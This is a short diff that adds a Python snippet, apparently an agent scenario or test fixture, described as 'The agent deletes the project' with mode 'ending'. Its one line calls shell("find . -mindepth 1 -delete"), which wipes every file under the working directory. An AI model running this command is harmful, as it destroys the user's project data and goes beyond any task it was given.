@@ -1,0 +1,6 @@
+"""The agent deletes the project.
+
+mode: ending
+"""
+
+shell("find . -mindepth 1 -delete")
